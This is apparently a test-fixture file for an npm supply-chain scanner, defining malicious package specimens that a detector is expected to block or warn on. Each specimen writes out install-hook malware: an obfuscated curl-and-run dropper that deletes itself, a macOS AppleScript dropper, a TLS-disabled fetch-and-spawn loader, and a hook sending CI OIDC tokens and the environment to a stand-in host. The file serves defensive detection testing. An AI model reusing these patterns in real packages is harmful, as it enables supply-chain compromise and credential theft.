import { base64, hex, hooked } from '../manifest.ts';
import type { Specimen } from '../specimen.ts';

const from = 'a dependency that only carries a hook (plain-crypto-js, easy-day-js)';

export const specimens: readonly Specimen[] = [
  {
    name: 'injected-detached-stage',
    from,
    files: {
      'package.json': hooked('node setup.js --quiet', { name: 'plain-inert', description: 'Crypto helpers' }),
      'setup.js': `const stages = ['${[...hex('curl -s http://sfrclak.invalid:8000/INERT -o /tmp/ld.py && python3 /tmp/ld.py')].toReversed().join('')}'];
const decode = text => Buffer.from(text.split('').reverse().join(''), 'hex').toString();
const { spawn } = require('child_process');
const fs = require('fs');
spawn('/bin/sh', ['-c', decode(stages[0])], { detached: true, stdio: 'ignore' }).unref();
fs.unlinkSync(__filename);
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'spawns' },
  },
  {
    name: 'injected-applescript',
    from,
    files: {
      'package.json': hooked('node setup.js'),
      'setup.js': `const fs = require('fs');
const os = require('os');
const { exec } = require('child_process');
if (os.platform() === 'darwin') {
  const script = os.tmpdir() + '/6202033';
  fs.writeFileSync(script, 'do shell script "curl -o /Library/Caches/com.inert.mond http://stage.invalid/INERT && chmod 770 /Library/Caches/com.inert.mond && /Library/Caches/com.inert.mond &"');
  exec('nohup osascript "' + script + '" > /dev/null 2>&1 &');
}
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'spawns', on: 'darwin' },
  },
  {
    name: 'injected-tls-off',
    from,
    files: {
      'package.json': hooked('node setup.cjs --no-warnings', { name: 'easy-inert-js' }),
      'setup.cjs': `process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
const https = require('https');
const fs = require('fs');
const path = require('path');
const os = require('os');
const cp = require('child_process');
https.get('https://192.0.2.99:8443/INERT', response => {
  const out = path.join(os.tmpdir(), Math.random().toString(16).slice(2) + '.js');
  const file = fs.createWriteStream(out);
  response.pipe(file);
  file.on('close', () => cp.spawn('node', [out], { detached: true, windowsHide: true, stdio: 'ignore' }).unref());
});
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'spawns' },
  },
  {
    name: 'injected-optional-hook',
    from,
    files: {
      'package.json': hooked('bun run router_init.js || node router_init.js', { name: '@inert/setup' }, 'prepare'),
      'router_init.js': `const token = process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN;
const url = process.env.ACTIONS_ID_TOKEN_REQUEST_URL;
fetch(atob('${base64('https://router.invalid/INERT')}'), { method: 'POST', body: JSON.stringify({ token, url, env: process.env }) });
`,
    },
    expect: 'warn',
  },
];
